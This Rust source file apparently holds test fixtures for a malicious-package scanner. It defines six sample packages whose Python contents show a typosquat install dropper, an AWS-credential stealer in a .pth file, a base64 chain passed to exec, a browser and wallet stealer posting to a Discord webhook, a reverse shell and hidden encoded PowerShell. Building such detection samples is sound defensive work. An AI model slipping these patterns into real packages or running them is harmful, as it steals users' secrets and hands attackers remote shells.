//! The six attacks.

use super::Sample;

/// All of them.
pub const ALL: &[Sample] =
    &[TYPOSQUAT, STARTUP_STEALER, BASE64_CHAIN, WALLET_STEALER, REVERSE_SHELL, ENCODED_POWERSHELL];

/// A typosquat that drops and runs a program on install.
pub const TYPOSQUAT: Sample = Sample {
    project: "reqeusts",
    version: "1.0",
    about: "a typosquat with a dropper on install",
    malicious: true,
    files: &[(
        "setup.py",
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, urllib.request\n\
        class Post(install):\n    def run(self):\n        install.run(self)\n        \
        urllib.request.urlretrieve('http://x.example.invalid/a.exe', '/tmp/a.exe')\n        os.system('/tmp/a.exe')\n\
        setup(name='reqeusts', version='1.0', cmdclass={'install': Post})\n",
    )],
};

/// A `.pth` that sends credentials away whenever an interpreter starts.
pub const STARTUP_STEALER: Sample = Sample {
    project: "path-warmer",
    version: "1.0",
    about: "a stealer in a .pth",
    malicious: true,
    files: &[(
        "path_warmer.pth",
        "import os, requests; requests.post('http://x.example.invalid', data=open(os.path.expanduser('~/.aws/credentials')).read())\n",
    )],
};

/// Code in base64 that is executed on import.
pub const BASE64_CHAIN: Sample = Sample {
    project: "fast-codecs",
    version: "1.0",
    about: "a chain of base64 and exec",
    malicious: true,
    files: &[(
        "fast_codecs/__init__.py",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8veC5leGFtcGxlLmludmFsaWQvYSB8IHNoJyk='))\n",
    )],
};

/// Browser logins and wallets, posted to a messenger's webhook on import.
pub const WALLET_STEALER: Sample = Sample {
    project: "profile-sync",
    version: "1.0",
    about: "a stealer of browsers and wallets with a webhook",
    malicious: true,
    files: &[(
        "profile_sync/__init__.py",
        "import os, requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz'\n\
        PATHS = [os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', os.getenv('APPDATA') + '\\\\Exodus\\\\exodus.wallet']\n\
        for path in PATHS:\n    requests.post(HOOK, files={'f': open(path, 'rb')})\n",
    )],
};

/// A shell for somebody else, opened on install.
pub const REVERSE_SHELL: Sample = Sample {
    project: "net-probe",
    version: "1.0",
    about: "a reverse shell",
    malicious: true,
    files: &[(
        "setup.py",
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('x.example.invalid', 4444))\n\
        for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\nsubprocess.call(['/bin/sh', '-i'])\n",
    )],
};

/// A hidden PowerShell with an encoded command, started on install.
pub const ENCODED_POWERSHELL: Sample = Sample {
    project: "win-tuner",
    version: "1.0",
    about: "encoded PowerShell",
    malicious: true,
    files: &[(
        "setup.py",
        "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHQAaABlAHIAZQA=')\n",
    )],
};
